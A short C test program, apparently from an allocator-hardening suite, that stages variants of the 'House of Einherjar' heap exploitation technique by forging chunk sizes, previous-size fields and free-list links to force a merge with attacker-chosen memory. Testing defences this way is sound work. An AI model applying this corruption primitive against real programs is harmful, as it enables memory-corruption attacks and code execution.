/* Usage: house_of_einherjar SIZE inside|stack|data|nowhere|small|stale|hidden
   Says behind an object that it is free, with a foot of the attacker's choice:
   the chunk behind, when freed, would merge with what the foot leads to.
   "hidden" is the opposite: a free chunk in front is said to be in use. */
#include "attack.h"

int main(int argc, char **argv)
{
    struct target t = { { 0 } };
    size_t n = size_arg(argv);
    warm(n);
    unsigned char *a = take_raw(n), *b = take_raw(n), *victim = take_raw(n);
    take(n);
    size_t chunk = malloc_usable_size(a) + 8;
    CHECK(b == a + chunk && victim == b + chunk);
    unsigned char *fake = b + 64;
    if (is(argv, "stale")) {
        a = merge(a, b);
        fake = b;
        uint64_t *ring = (uint64_t *)(a + 64);
        ring[0] = ring[1] = address(b);
        links(b)[0] = links(b)[1] = address(ring);
        *prev_size(victim) = chunk;
    } else if (is(argv, "stack")) {
        fake = (unsigned char *)&t.words[2];
        *size_word(fake) = (uint32_t)(victim - fake) | 4;
        links(fake)[0] = links(fake)[1] = address(fake);
        watch(0, &t);
    } else {
        *size_word(fake) = (uint32_t)(victim - fake) | 4;
        *tag(fake) = *tag(victim) ^ 0xfffffffe;
        links(fake)[0] = links(fake)[1] = address(fake);
    }
    if (is(argv, "data")) {
        fake = (unsigned char *)&in_data.words[2];
        watch(0, &in_data);
    }
    if (is(argv, "nowhere"))
        fake = (unsigned char *)4096;
    if (is(argv, "hidden")) {
        to_bin(b);
        *size_word(victim) |= 1;
        take(n);
        return settle();
    }
    *prev_size(victim) = is(argv, "small") ? 16 : (uint64_t)(victim - fake);
    *size_word(victim) &= ~1u;
    to_bin(victim);
    for (int i = 0; i < 100; i++)
        take(n);
    return settle();
}
